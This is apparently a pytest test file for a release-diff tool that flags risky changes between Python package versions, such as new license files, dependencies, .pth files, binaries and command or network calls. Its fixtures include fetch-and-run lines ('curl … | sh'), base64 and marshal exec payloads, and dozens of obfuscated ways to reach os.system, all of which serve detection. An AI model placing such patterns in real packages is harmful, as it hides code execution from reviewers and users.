        "legal/TERMS.txt": "terms\n",
        "tests/gis_tests/data/geoip2/LICENSE": "CC\n",
        "demo/_vendor/six/LICENSE.txt": "MIT\n",
    }
    new = {
        "LICENSE.python": "Copyright (c) 2001-2024 PSF\n",
        "AUTHORS": "Ann\nBob\n",
        "legal/TERMS.txt": "new terms\n",
        "tests/gis_tests/data/geoip2/LICENSE": "CC BY\n",
        "tests/data/LICENSES/MIT.txt": "MIT\n",
        "demo/_vendor/six/LICENSE.txt": "BSD\n",
        "docs/LICENSE": "docs\n",
    }
    declared = ("License-File: LICENSE.python", "License-File: AUTHORS")
    new_declared = (*declared, "License-File: legal/TERMS.txt")
    assert find(tmp_path, old, new, "sdist", declared, new_declared) == [
        ("license", "legal/TERMS.txt", "license file changed"),
    ]


def test_a_wheels_license_files_are_in_its_dist_info(tmp_path: Path) -> None:
    def tree(version: str, text: str) -> dict[str, str]:
        info = f"demo-{version}.dist-info"
        return {
            f"{info}/LICENSE.txt": text,
            f"{info}/AUTHORS.txt": text,
            f"{info}/licenses/src/COPYING": text,
            f"{info}/terms.md": text,
            "demo/LICENSE": text,
        }

    declared = ("License-File: LICENSE.txt", "License-File: AUTHORS.txt")
    new_declared = (*declared, "License-File: terms.md")
    assert find(
        tmp_path, tree("1.0", "a\n"), tree("1.1", "b\n"), "wheel", declared, new_declared
    ) == [
        ("license", "demo-1.1.dist-info/LICENSE.txt", "license file changed"),
        ("license", "demo-1.1.dist-info/licenses/src/COPYING", "license file changed"),
        ("license", "demo-1.1.dist-info/terms.md", "license file changed"),
    ]


EXEC_OLD = """import subprocess
import os


def build():
    subprocess.run(["make"])
"""
EXEC_NEW = """import subprocess as sp
import os, subprocess
import base64
import socket
from urllib.request import urlopen
import requests
import http.client
from os import system as shell


def build():
    subprocess.run(["make"])


def fetch(code, url, parts):
    eval("1 + 1")
    exec(code)
    exec(base64.b64decode(payload))
    compile(code, "<x>", "exec")
    sp.check_output(
        ["git", "describe"],
    )
    os.system("ls")
    shell("ls")
    os.execvp("ls", ["ls"])
    socket.socket()
    urlopen(url)
    requests.get(url)
    http.client.HTTPSConnection("example.org")
    parts.get(url)
    os.path.join("a", "b")
"""


@pytest.mark.parametrize("dist", DISTS)
def test_exec_calls_on_added_lines(tmp_path: Path, dist: str) -> None:
    found = find(tmp_path, {"demo/build.py": EXEC_OLD}, {"demo/build.py": EXEC_NEW}, dist)
    assert found == [
        ("exec", "demo/build.py", "compile() runs code from non-literal input (line 19)"),
        ("exec", "demo/build.py", "exec() runs a decoded payload (base64.b64decode) (line 18)"),
        ("exec", "demo/build.py", "exec() runs code from non-literal input (line 17)"),
        ("exec", "demo/build.py", "http.client.HTTPSConnection() reaches the network (line 29)"),
        ("exec", "demo/build.py", "os.execvp() runs a command (line 25)"),
        ("exec", "demo/build.py", "os.system() runs a command (lines 23, 24)"),
        ("exec", "demo/build.py", "requests.get() reaches the network (line 28)"),
        ("exec", "demo/build.py", "socket.socket() reaches the network (line 26)"),
        ("exec", "demo/build.py", "subprocess.check_output() runs a command (line 20)"),
        ("exec", "demo/build.py", "urllib.request.urlopen() reaches the network (line 27)"),
    ]


def test_exec_in_an_added_setup_py(tmp_path: Path) -> None:
    new = {"setup.py": "import os\nos.system('curl example.org | sh')\n"}
    assert find(tmp_path, {}, new) == [
        ("build", "setup.py", "build script added"),
        ("exec", "setup.py", "os.system() runs a command (line 2)"),
    ]


def test_exec_changed_argument_of_a_multi_line_call(tmp_path: Path) -> None:
    old = {"demo/x.py": "import subprocess\nsubprocess.run(\n    ['true'],\n)\n"}
    new = {"demo/x.py": "import subprocess\nsubprocess.run(\n    ['curl', URL],\n)\n"}
    assert find(tmp_path, old, new) == [
        ("exec", "demo/x.py", "subprocess.run() runs a command (line 2)")
    ]


@pytest.mark.parametrize(
    "path",
    [
        "tests/helpers.py",
        "demo/tests/util.py",
        "test/x.py",
        "testing/x.py",
        "docs/conf.py",
        "examples/run.py",
        "benchmarks/b.py",
        "bench/bench.py",
        "demo/test_cli.py",
        "demo/cli_test.py",
        "conftest.py",
        "demo/tests.py",
    ],
)
def test_exec_skips_tests_docs_and_examples(tmp_path: Path, path: str) -> None:
    assert find(tmp_path, {}, {path: "import os\nos.system('x')\n"}) == []


def test_exec_imports_and_shadowed_names_are_not_calls(tmp_path: Path) -> None:
    new = {
        "demo/a.py": "import subprocess\nfrom re import compile\ncompile(pattern)\n",
        "demo/b.py": "def eval(x):\n    return x\n\neval(data)\n",
        "demo/c.py": "requests = {}\nrequests.get(key)\nsubprocess.run(x)\n",
        "demo/d.py": "from . import subprocess\nsubprocess.run(x)\n",
    }
    assert find(tmp_path, {}, new) == []


def test_exec_marshal_and_builtins(tmp_path: Path) -> None:
    new = {"demo/m.py": "import marshal, builtins\nbuiltins.exec(marshal.loads(blob))\n"}
    assert find(tmp_path, {}, new) == [
        ("exec", "demo/m.py", "exec() runs a decoded payload (marshal.loads) (line 2)"),
        ("exec", "demo/m.py", "marshal.loads() loads a marshalled code object (line 2)"),
    ]


def test_exec_file_that_does_not_parse_is_noted(tmp_path: Path) -> None:
    old = {"demo/py2.py": "import os\nprint 'a'\n"}
    new = {"demo/py2.py": "import os\nprint 'a'\nos.system('b')\n"}
    assert find(tmp_path, old, new) == [
        (
            "exec",
            "demo/py2.py",
            "not checked: does not parse (Missing parentheses in call to 'print'. "
            "Did you mean print(...)?, line 2)",
        )
    ]


def test_exec_file_without_risky_names_is_not_parsed(tmp_path: Path) -> None:
    # No exec/eval/compile and no import of a module with risky calls: nothing to find.
    old = {"demo/py2.py": "print 'a'\n"}
    assert find(tmp_path, old, {"demo/py2.py": "print 'a'\nprint 'b'\n"}) == []


def test_exec_unchanged_unparsable_file_is_not_noted(tmp_path: Path) -> None:
    # Only a removed line: nothing added, nothing to check.
    old = {"demo/py2.py": "print 'a'\nprint 'b'\n"}
    assert find(tmp_path, old, {"demo/py2.py": "print 'a'\n"}) == []


def test_exec_crlf_and_encoding_cookie_keep_line_numbers(tmp_path: Path) -> None:
    new = {
        "demo/w.py": b"# -*- coding: latin-1 -*-\r\nname = '\xe9'\r\nimport os\r\nos.popen(name)\r\n"
    }
    assert find(tmp_path, {}, new) == [("exec", "demo/w.py", "os.popen() runs a command (line 4)")]


def test_exec_lines_are_listed_up_to_five(tmp_path: Path) -> None:
    new = {"demo/many.py": "import os\n" + "".join(f"os.system('{i}')\n" for i in range(7))}
    assert find(tmp_path, {}, new) == [
        ("exec", "demo/many.py", "os.system() runs a command (lines 2, 3, 4, 5, 6, …)")
    ]


def test_order_is_by_kind_then_path_and_deduplicated(tmp_path: Path) -> None:
    new: dict[str, str | bytes] = {
        "z.pth": "import z\n",
        "a/_x.so": ELF,
        "LICENSE": "new\n",
        "demo/run.py": "import os\nos.system('a')\nos.system('b')\n",
    }
    found = find(tmp_path, {}, new, "wheel")
    kinds = [kind for kind, _, _ in found]
    assert kinds == sorted(kinds, key=NOTABLE_KINDS.index)
    assert found == [
        ("pth", "z.pth", "new .pth file runs code at start-up: import z"),
        ("binary", "a/_x.so", "new native binary (ELF, 164 bytes)"),
        ("license", "LICENSE", "license file added"),
        ("exec", "demo/run.py", "os.system() runs a command (lines 2, 3)"),
    ]


def test_notable_is_a_model_value(tmp_path: Path) -> None:
    (tmp_path / "o").mkdir()
    (tmp_path / "n").mkdir()
    old = read_archive(make_sdist(tmp_path / "o", "demo", "1.0", {}))
    new = read_archive(make_sdist(tmp_path / "n", "demo", "1.1", {"x.pth": "import x\n"}))
    assert compare(old, new).notable == (
        Notable("pth", "x.pth", "new .pth file runs code at start-up: import x"),
    )


UNCHANGED_CALL_NEW_BEHAVIOUR = [
    pytest.param(
        "import subprocess\nCMD = ['git', '--version']\n\nsubprocess.run(CMD, check=True)\n",
        "import subprocess\nCMD = ['sh', '-c', 'curl x | sh']\n\nsubprocess.run(CMD, check=True)\n",
        "subprocess.run() runs a command (line 4), given CMD, changed on line 2",
        id="the command a name holds changed",
    ),
    pytest.param(
        "import subprocess\n\ndef go(text):\n    subprocess.run(text, shell=False)\n",
        "import subprocess\n\ndef go(text):\n    subprocess.run(text, shell=True)\n",
        "subprocess.run() runs a command (line 4)",
        id="shell= flipped",
    ),
    pytest.param(
        "import subprocess\nsubprocess.run(args=['git', '--version'])\n",
        "import subprocess\nsubprocess.run(args=['sh', '-c', 'id'])\n",
        "subprocess.run() runs a command (line 2)",
        id="the command passed by keyword changed",
    ),
    pytest.param(
        "from urllib.request import urlopen\nurlopen(url='https://a.invalid/')\n",
        "from urllib.request import urlopen\nurlopen(url='https://b.invalid/?k=1')\n",
        "urllib.request.urlopen() reaches the network (line 2)",
        id="the target passed by keyword changed",
    ),
    pytest.param(
        "import os, shlex\nrun = shlex.split\n\nrun('id')\n",
        "import os, shlex\nrun = os.system\n\nrun('id')\n",
        "os.system() runs a command (line 4)",
        id="the name called is bound to a risky function",
    ),
    pytest.param(
        "from os.path import exists as check\n\ncheck('id')\n",
        "from os import system as check\n\ncheck('id')\n",
        "os.system() runs a command (line 3)",
        id="the name called is imported from elsewhere",
    ),
]


@pytest.mark.parametrize(("before", "after", "expected"), UNCHANGED_CALL_NEW_BEHAVIOUR)
def test_an_unchanged_risky_call_that_now_does_something_else(
    tmp_path: Path, before: str, after: str, expected: str
) -> None:
    """The call's line is the same, what it runs is not: the name it is given or the name
    it calls was bound anew, or a keyword that chooses the command or the target
    (``args=``, ``url=``, ``shell=``) was edited."""
    found = find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after})
    assert found == [("exec", "demo/m.py", expected)]


def test_a_risky_function_bound_anew_for_other_modules(tmp_path: Path) -> None:
    """``_compat.py``'s ``run`` becomes ``os.system``; ``__init__`` imports and calls it
    unchanged. Bound and imported by no module, the name is nothing to tell."""
    caller = {"demo/__init__.py": "from ._compat import run\n\nrun('id')\n"}
    old = {**caller, "demo/_compat.py": "import os, shlex\nrun = shlex.split\n"}
    new = {**caller, "demo/_compat.py": "import os, shlex\nrun = os.system\nkept = os.system\n"}
    assert find(tmp_path, old, new) == [
        ("exec", "demo/_compat.py", "os.system() runs a command (line 2), bound to the name run")
    ]
    bound_before = {**caller, "demo/_compat.py": "import os\nif True:\n    run = os.system\n"}
    assert find(tmp_path / "before", bound_before, new) == []


def test_a_renamed_parameter_in_an_old_call_is_no_new_call(tmp_path: Path) -> None:
    before = "import os\n\ndef run(cmd):\n    return os.system(cmd)\n"
    after = "import os\n\ndef run(command):\n    return os.system(command)\n"
    assert find(tmp_path, {"demo/m.py": before}, {"demo/m.py": after}) == []
    # A parameter in another place is another call.
    other = "import os\n\ndef run(cmd, command):\n    return os.system(command)\n"
    assert find(tmp_path / "other", {"demo/m.py": before}, {"demo/m.py": other}) == [
        ("exec", "demo/m.py", "os.system() runs a command (line 4)")
    ]


def test_an_old_call_with_an_edited_argument_is_not_new(tmp_path: Path) -> None:
    """pip 24.1: ``subprocess.run(`` stayed, only ``universal_newlines=True`` became ``text=True``."""
    from sphinxext.releasediff.archive import read_pair
    from sphinxext.releasediff.compare import compare

    from .archives import make_sdist

    before = "import subprocess\n\nout = subprocess.run(\n    ['ldd'],\n    universal_newlines=True,\n)\n"
    after = before.replace("universal_newlines=True", "text=True") + "subprocess.call(['x'])\n"
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    old = make_sdist(tmp_path / "a", "demo", "1.0", {"demo/tags.py": before})
    new = make_sdist(tmp_path / "b", "demo", "1.1", {"demo/tags.py": after})
    notable = compare(*read_pair(old, new)).notable
    assert [(n.kind, n.detail) for n in notable] == [
        ("exec", "subprocess.call() runs a command (line 7)")
    ]


def test_an_old_one_line_call_with_an_edited_keyword_is_not_new(tmp_path: Path) -> None:
    """pip 24.1's vendored _musllinux.py: one line, ``universal_newlines=True`` -> ``text=True``."""
    call = "proc = subprocess.run([ld], stderr=subprocess.PIPE, universal_newlines=True)\n"
    before = f"import subprocess\n\n\ndef musl(ld):\n    {call}"
    edited = (
        f"import subprocess\n\n\ndef musl(ld):\n    {call.replace('universal_newlines', 'text')}"
    )
    more = edited + "\n\ndef again(ld):\n    return subprocess.run([ld])\n"
    assert find(tmp_path / "edited", {"demo/musl.py": before}, {"demo/musl.py": edited}) == []
    # The same command run from a second place is a new call; which of the two edited
    # lines holds it is not known, so both are named.
    assert find(tmp_path / "more", {"demo/musl.py": before}, {"demo/musl.py": more}) == [
        ("exec", "demo/musl.py", "subprocess.run() runs a command (lines 5, 9)")
    ]


@pytest.mark.parametrize("dist", DISTS)
def test_developer_extras_are_not_notable(tmp_path: Path, dist: str) -> None:
    """attrs 23.2.0 -> 24.2.0: 26 test, docs and dev pins were listed as notable."""
    old = (
        "Requires-Dist: pytest>=4; extra == 'tests'",
        "Requires-Dist: coverage; extra == 'cov'",
        "Requires-Dist: bundled; extra == 'dev'",
    )
    new = (
        "Requires-Dist: pytest>=8; extra == 'tests'",
        "Requires-Dist: hypothesis; extra == 'tests-no-zope' and python_version >= '3.9'",
        "Requires-Dist: sphinx; extra == 'docs'",
        "Requires-Dist: pysocks; extra == 'socks'",
        "Requires-Dist: legacy; extra == 'tests' or python_version < '3.8'",
        "Requires-Dist: bundled",
        "Requires-Dist: black; extra == 'format'",
        # Features users install, named with a word a developers' extra may be named by.
        "Requires-Dist: tomli-w; extra == 'format-toml'",
        "Requires-Dist: jsonschema; extra == 'check-schema'",
        # Without the extra too, on machines other than the reviewer's.
        "Requires-Dist: arm-helper; extra == 'tests' or platform_machine == 'arm64'",
        "Requires-Dist: cyg-helper; extra == 'tests' or sys_platform == 'cygwin'",
        "Requires-Dist: old-kernel; extra == 'tests' or platform_release < '5'",
        "Requires-Dist: x86-only; extra == 'tests' and platform_machine == 'x86_64'",
    )
    assert find(tmp_path, {}, {}, dist, old, new) == [
        (
            "dependency",
            None,
            'requirement added: arm-helper; extra == "tests" or platform_machine == "arm64"',
        ),
        (
            "dependency",
            None,
            'requirement added: cyg-helper; extra == "tests" or sys_platform == "cygwin"',
        ),
        ("dependency", None, 'requirement added: jsonschema; extra == "check-schema"'),
        (
            "dependency",
            None,
            'requirement added: legacy; extra == "tests" or python_version < "3.8"',
        ),
        (
            "dependency",
            None,
            'requirement added: old-kernel; extra == "tests" or platform_release < "5"',
        ),
        ("dependency", None, 'requirement added: pysocks; extra == "socks"'),
        ("dependency", None, 'requirement added: tomli-w; extra == "format-toml"'),
        (
            "dependency",
            None,
            "requirement now installed without an extra (marker): "
            'bundled; extra == "dev" → bundled',
        ),
    ]


@pytest.mark.parametrize(
    ("config", "path"),
    [
        (
            {
                "pyproject.toml": "[project]\nname = 'demo'\ndynamic = ['dependencies']\n"
                "[tool.setuptools.dynamic]\ndependencies = {file = ['requirements.txt']}\n"
            },
            "requirements.txt",
        ),
        (
            {
                "setup.py": "from setuptools import setup\n"
                "setup(install_requires=open('requirements/base.txt').read().splitlines())\n"
            },
            "requirements/base.txt",
        ),
    ],
    ids=["dynamic file", "setup.py"],
)
def test_requirements_files_the_build_reads(tmp_path: Path, config: Tree, path: str) -> None:
    """PKG-INFO is stale: the wheel takes what the build reads from the file."""
    old = {**config, path: "requests>=2\n# pinned\n"}
    new = {
        **config,
        path: "requests>=2\ncolorama @ https://example.com/c.whl  # fast\n-r dev.txt\n",
    }
    assert find(tmp_path, old, new) == [
        ("dependency", path, "direct URL reference added: colorama @ https://example.com/c.whl")
    ]


def test_text_and_markdown_tables_name_kinds_as_the_summary_does(tmp_path: Path) -> None:
    from sphinxext.releasediff.render.markdown import render_markdown
    from sphinxext.releasediff.render.text import render_text
    from sphinxext.releasediff.report import build_report
    from sphinxext.releasediff.settings import Settings

    (tmp_path / "o").mkdir()
    (tmp_path / "n").mkdir()
    old = make_wheel(
        tmp_path / "o", "demo", "1.0", {"demo/__init__.py": ""}, ("Requires-Python: >=3.9",)
    )
    new = make_wheel(
        tmp_path / "n",
        "demo",
        "1.1",
        {"demo/__init__.py": ""},
        ("Requires-Python: >=3.10",),
        entry_points="[console_scripts]\ndemo = demo:main\n",
    )
    settings = Settings(show=("summary", "notable"))
    report = build_report(compare(read_archive(old), read_archive(new)), settings)
    text, markdown = render_text(report), render_markdown(report)
    assert "2 notable: entry point, Requires-Python." in text
    assert "\n  entry point " in text
    assert "\n  Requires-Python " in text
    assert "| entry point | `demo-1.1.dist-info/entry_points.txt` |" in markdown
    assert "| Requires-Python |  | Requires-Python: \\>=3.9 → \\>=3.10 |" in markdown
    assert "entry-point" not in text + markdown


OBFUSCATION_HEADER = (
    "import os, sys, importlib, base64, builtins, operator, runpy, pkgutil, functools\n"
)
OBFUSCATED = {
    "getattr(__import__('os'), 'system')('id')": "os.system() runs a command",
    "__import__('subprocess').run(['id'])": "subprocess.run() runs a command",
    "__import__('urllib.request', fromlist=['x']).urlopen(u)": (
        "urllib.request.urlopen() reaches the network"
    ),
    "__import__('urllib.request').request.urlopen(u)": (
        "urllib.request.urlopen() reaches the network"
    ),
    "importlib.import_module('subprocess').check_call(['id'])": (
        "subprocess.check_call() runs a command"
    ),
    "s = os.system\ns('id')": "os.system() runs a command",
    "n = 'o' 's'\nm = __import__(n)\nm.system('id')": "os.system() runs a command",
    "name = ''.join(['o', 's'])\nimportlib.import_module(name).system(c)": (
        "os.system() runs a command"
    ),
    "g = getattr\ng(os, 'sys' + 'tem')('id')": "os.system() runs a command",
    "os.system.__call__('id')": "os.system() runs a command",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'w'][0]"
    ".__init__.__globals__['sys' + 'tem']('id')": (
        "<a function's __globals__>.<run-time name>() looked up by a name built at run time"
    ),
    "os.popen.__call__.__call__('id')": "os.popen() runs a command",
    "asyncio.get_event_loop().subprocess_exec(Protocol, 'id')": (
        "asyncio.AbstractEventLoop.subprocess_exec() runs a command"
    ),
    "attr = 'sys' + 'tem'\ngetattr(os, attr)('id')": "os.system() runs a command",
    "sp = importlib.import_module('sub' + 'process')\nsp.Popen(cmd)": (
        "subprocess.Popen() runs a command"
    ),
    "sys.modules['os'].system('id')": "os.system() runs a command",
    "sys.modules.get('os').popen('id')": "os.popen() runs a command",
    "os.__dict__['sys' + 'tem']('id')": "os.system() runs a command",
    "vars(os)['system']('id')": "os.system() runs a command",
    "getattr(os, ''.join(['sys', 'tem']))('id')": "os.system() runs a command",
    "__builtins__.__dict__['ex' + 'ec'](code)": (
        "exec() runs source text, reached by a look-up by name"
    ),
    "__builtins__['eval']('1')": "eval() runs source text, reached by a look-up by name",
    "getattr(builtins, 'exec')('import os')": (
        "exec() runs source text, reached by a look-up by name"
    ),
    "e = eval\ne(code)": "eval() runs code from non-literal input",
    "exec(\"import os; os.system('id')\")": (
        "exec() runs source text that calls os.system() (runs a command)"
    ),
    "exec('os.system(\"id\")')": "exec() runs source text that calls os.system() (runs a command)",
    "e = builtins.eval\ne(code)": "eval() runs code from non-literal input",
    "(run := os.system)('id')": "os.system() runs a command",
    "run: object = os.system\nrun('id')": "os.system() runs a command",
    "run, n = os.system, 1\nrun('id')": "os.system() runs a command",
    "class Tools:\n    run = os.system\nTools.run('id')": "os.system() runs a command",
    "os.__getattribute__('system')('id')": "os.system() runs a command",
    "object.__getattribute__(os, 'system')('id')": "os.system() runs a command",
    "operator.attrgetter('system')(os)('id')": "os.system() runs a command",
    "runpy.run_path(path)": "runpy.run_path() runs a file's Python code",
    "os.__dict__.get('system')('id')": "os.system() runs a command",
    "vars(os).get('system')('id')": "os.system() runs a command",
    "importlib.import_module(name='subprocess').run(x)": "subprocess.run() runs a command",
    "from pip._vendor import requests\nrequests.get(u)": (
        "pip._vendor.requests.get() reaches the network"
    ),
    "from ._vendor import requests\nrequests.get(u)": (
        "._vendor.requests.get() reaches the network"
    ),
    "exec('exec(\"exec(\\'exec(\\\\\"os.system(1)\\\\\")\\')\")')": (
        "exec() runs source text that calls exec() (runs source text that calls exec() "
        "(runs source text that calls exec() (runs source text that calls os.system() "
        "(runs a command))))"
    ),
    "operator.methodcaller('system', 'id')(os)": "os.system() runs a command",
    "pkgutil.resolve_name('os:system')('id')": "os.system() runs a command",
    "pkgutil.resolve_name('subprocess.run')(x)": "subprocess.run() runs a command",
    "functools.reduce(getattr, ['system'], os)('id')": "os.system() runs a command",
    "__import__(*['os']).system('id')": "os.system() runs a command",
    "globals()['__builtins__']['exec'](code)": (
        "exec() runs source text, reached by a look-up by name"
    ),
    "locals()['os'].system('id')": "os.system() runs a command",
    "vars()['o' + 's'].popen('id')": "os.popen() runs a command",
    # A name built at run time: the function is not known, the look-up in a risky module is.
    **{
        line: f"{module}.<run-time name>() looked up by a name built at run time"
        for line, module in [
            ("getattr(os, chr(115) + 'ystem')('id')", "os"),
            ("getattr(os, 'metsys'[::-1])('id')", "os"),
            ("getattr(os, '{}{}'.format('sys', 'tem'))('id')", "os"),
            ("vars(os)[name]('id')", "os"),
            ("os.__dict__.get(name)('id')", "os"),
            ("os.__getattribute__(name)('id')", "os"),
            ("operator.attrgetter(name)(os)('id')", "os"),
            ("operator.methodcaller(name, 'id')(os)", "os"),
            ("getattr(importlib.import_module('subprocess'), name)(x)", "subprocess"),
            ("getattr(builtins, name)(code)", "builtins"),
            ("__builtins__[name](code)", "builtins"),
        ]
    },
}


@pytest.mark.parametrize("line", sorted(OBFUSCATED))
def test_exec_sees_through_lookups_by_name(tmp_path: Path, line: str) -> None:
    assert_one_added_line_found(tmp_path, OBFUSCATION_HEADER, line, OBFUSCATED[line])


def assert_one_added_line_found(tmp_path: Path, header: str, line: str, expected: str) -> None:
    """``line`` added after ``header`` gives the one exec entry ``expected`` (no lines)."""
    old = {"demo/m.py": header}
    new = {"demo/m.py": header + line + "\n"}
    last = header.count("\n") + line.count("\n") + 1
    name, _sep, what = expected.partition("() ")
    assert find(tmp_path, old, new) == [("exec", "demo/m.py", f"{name}() {what} (line {last})")]


def test_exec_star_import_binds_the_risky_names(tmp_path: Path) -> None:
    new = {"demo/m.py": "from os import *\nfrom subprocess import *\nsystem('id')\nrun(x)\n"}
    assert find(tmp_path, {}, new) == [
        ("exec", "demo/m.py", "os.system() runs a command (line 3)"),
        ("exec", "demo/m.py", "subprocess.run() runs a command (line 4)"),
    ]


@pytest.mark.parametrize(
    "source",
    [
        # Harmless look-ups and literals: nothing is said.
        "import os\ngetattr(os, 'path').join(a, b)\n",
        "import importlib\nimportlib.import_module('json').loads(text)\n",
        "exec('x = 1')\n",
        "exec('def f(): pass')\n",
        "e = eval\ne('1 + 1')\n",
        "import os\nname = os.environ\nname.get('HOME')\n",
        "import sys\nsys.modules['json'].dumps(x)\n",
        # A name built at run time, in a module that holds nothing risky, or not called.
        "import json\ngetattr(json, chr(100) + 'umps')(x)\n",
        "import socket\nfamily = getattr(socket, 'AF_' + name)\n",
        "import socket\nsocket.inet_pton(getattr(socket, 'AF_' + name), host)\n",
        "import os\nflag = getattr(os, name, None)\n",
        "import sys\nsys.modules[name].main()\n",
        # A name bound to itself, or in a ring, ends.
        "a = b\nb = a\na()\n",
        "x = x.y\nx()\n",
    ],
)
def test_exec_lookups_by_name_that_reach_nothing_risky(tmp_path: Path, source: str) -> None:
    assert find(tmp_path, {}, {"demo/m.py": source}) == []


RUNS_AT_IMPORT = "import subprocess\nsubprocess.run(['sh', '-c', 'curl x | sh'])\n"


@pytest.mark.parametrize("dist", DISTS)
@pytest.mark.parametrize(
    "importer",
    [
        "from .tests import _selfcheck\n",
        "from .tests._selfcheck import run\n",
        "import demo.tests._selfcheck\n",
        "from demo.tests import (\n    _selfcheck,\n)\n",
        "import importlib\nimportlib.import_module('demo.tests._selfcheck')\n",
        "import importlib\nimportlib.import_module('.tests._selfcheck', __name__)\n",
        "import importlib\nimportlib.import_module('demo.' + 'tests' + '._selfcheck')\n",
        "import importlib\nimportlib.import_module('demo.tests.' '_selfcheck')\n",
    ],
)
def test_exec_checks_a_test_file_that_shipped_code_imports(
    tmp_path: Path, dist: str, importer: str
) -> None:
    """A wheel installs every file, an sdist its package folders whole: code under
    ``demo/tests/`` that ``demo/__init__.py`` imports runs when users import demo."""
    old = {"demo/__init__.py": "", "demo/tests/__init__.py": ""}
    new = {**old, "demo/__init__.py": importer, "demo/tests/_selfcheck.py": RUNS_AT_IMPORT}
    exec_entries = [entry for entry in find(tmp_path, old, new, dist) if entry[0] == "exec"]
    assert exec_entries == [
        ("exec", "demo/tests/_selfcheck.py", "subprocess.run() runs a command (line 2)")
    ]


def test_exec_checks_an_imported_test_file_whose_importer_is_unchanged(tmp_path: Path) -> None:
    importer = {"demo/__init__.py": "from .testing import helpers\n"}
    old = {**importer, "demo/testing/__init__.py": "", "demo/testing/helpers.py": "X = 1\n"}
    new = {**old, "demo/testing/helpers.py": RUNS_AT_IMPORT}
    assert find(tmp_path, old, new) == [
        ("exec", "demo/testing/helpers.py", "subprocess.run() runs a command (line 2)")
    ]


@pytest.mark.parametrize("dist", DISTS)
def test_exec_checks_a_test_file_an_entry_point_loads(tmp_path: Path, dist: str) -> None:
    """pytest loads a ``pytest11`` plugin at every run, a console script runs its module:
    a module in a ``testing`` or ``tests`` folder they name is code users run, and so
    is the package above it."""
    eps = "[pytest11]\ndemo = demo.testing.plugin\n[console_scripts]\ndemo = demo.tests.cli:main\n"
    package = {"demo/__init__.py": "", "demo/tests/cli.py": "X = 1\n"}
    old = {**package, "demo/testing/__init__.py": "", "demo/testing/plugin.py": "X = 1\n"}
    edited = {
        "demo/testing/__init__.py": RUNS_AT_IMPORT,
        "demo/tests/cli.py": RUNS_AT_IMPORT,
        "demo/tests/other.py": RUNS_AT_IMPORT,  # loaded by nothing
    }
    new = {**old, **edited}
    if dist == "wheel":
        found = find(tmp_path, old, new, dist, old_entry_points=eps, new_entry_points=eps)
    else:
        old["demo.egg-info/entry_points.txt"] = new["demo.egg-info/entry_points.txt"] = eps
        found = find(tmp_path, old, new, dist)
    assert [entry for entry in found if entry[0] == "exec"] == [
        ("exec", "demo/testing/__init__.py", "subprocess.run() runs a command (line 2)"),
        ("exec", "demo/tests/cli.py", "subprocess.run() runs a command (line 2)"),
    ]


def test_exec_checks_a_test_named_module_a_plugin_autoloader_imports(tmp_path: Path) -> None:
    loader = (
        "import importlib, pkgutil\nfor m in pkgutil.iter_modules(__path__):\n"
        "    importlib.import_module(f'{__name__}.{m.name}')\n"
    )
    old = {
        "demo/__init__.py": "",
        "demo/commands/__init__.py": loader,
        "demo/tests/__init__.py": loader,  # a test suite's loader: not shipped
    }
    new = {
        **old,
        "demo/commands/test_cmd.py": RUNS_AT_IMPORT,
        "demo/tests/test_x.py": RUNS_AT_IMPORT,
    }
    assert [entry for entry in find(tmp_path, old, new) if entry[0] == "exec"] == [
        ("exec", "demo/commands/test_cmd.py", "subprocess.run() runs a command (line 2)")
    ]


@pytest.mark.parametrize(
    "importer",
    [
        "",
        "from . import tests\n",  # the package's __init__, not the module
        "# from .tests import _selfcheck\n",
        "helper = 'demo.tests._selfcheck'\n",  # a string, but nothing imports by name
    ],
)
def test_exec_skips_a_test_file_nothing_shipped_imports(tmp_path: Path, importer: str) -> None:
    old = {"demo/__init__.py": "", "demo/tests/__init__.py": ""}
    new = {**old, "demo/__init__.py": importer, "demo/tests/_selfcheck.py": RUNS_AT_IMPORT}
    assert [entry for entry in find(tmp_path, old, new) if entry[0] == "exec"] == []


def test_an_sdists_changed_native_sources_are_one_entry(tmp_path: Path) -> None:
    sources = ("demo/_speed.pyx", "demo/_speed.c", "demo/include/x.h", "tests/test_native.c")
    old = {"demo/__init__.py": "", **dict.fromkeys(sources, "int x = 1;\n")}
    edited = ("demo/_speed.pyx", "demo/_speed.c", "demo/src/lib.rs", "tests/test_native.c")
    new = {**old, **dict.fromkeys(edited, "int x = 2;\n")}
    detail = (
        "native source changed, compiled when installed and not checked: 3 files "
        "(demo/_speed.c, demo/_speed.pyx, demo/src/lib.rs)"
    )
    assert find(tmp_path, old, new) == [("binary", None, detail)]
    # A wheel holds what was compiled: its binaries are the entries.
    assert find(tmp_path / "wheel", old, new, "wheel") == []


@pytest.mark.parametrize(
    "path",
    ["src/tables.inc", "src/fast.S", "src/kernel.cu", "src/demo.i", "src/old.f77", "src/x.zig"],
)
def test_native_sources_of_every_language_the_build_compiles(tmp_path: Path, path: str) -> None:
    old = {"demo/__init__.py": "", path: "1\n"}
    new = {**old, path: "2\n"}
    detail = f"native source changed, compiled when installed and not checked: 1 file ({path})"
    assert find(tmp_path, old, new) == [("binary", None, detail)]


def test_many_native_sources_are_counted_past_five(tmp_path: Path) -> None:
    new = {"demo/__init__.py": "", **{f"demo/m{n}.c": "int x;\n" for n in range(7)}}
    assert find(tmp_path, {"demo/__init__.py": ""}, new) == [
        (
            "binary",
            None,
            "native source changed, compiled when installed and not checked: 7 files "
            "(demo/m0.c, demo/m1.c, demo/m2.c, demo/m3.c, demo/m4.c, and 2 more)",
        )
    ]


HANDED_ON = {
    "threading.Thread(target=os.system, args=(cmd,)).start()": "os.system() runs a command",
    "atexit.register(subprocess.call, ['id'])": "subprocess.call() runs a command",
    "functools.partial(os.popen, cmd)()": "os.popen() runs a command",
    "loop.run_in_executor(None, getattr(os, 'system'), cmd)": "os.system() runs a command",
    "handlers = [os.system]": "os.system() runs a command",
    "run = os.system\nthreading.Thread(target=run).start()": "os.system() runs a command",
    "list(map(eval, texts))": "eval() runs code from non-literal input",
    # A class's __init_subclass__ may call what its annotations hold.
    "class Job(Base):\n    cmd: os.system = 'id'": "os.system() runs a command",
    # Python calls what a special name holds: ``Job["id"]`` runs the command.
    "class Job:\n    __class_getitem__ = os.system": "os.system() runs a command",
    "__getattr__ = os.popen": "os.popen() runs a command",
}
HANDED_ON_HEADER = "import atexit, functools, os, subprocess, threading\n"


@pytest.mark.parametrize("line", sorted(HANDED_ON))
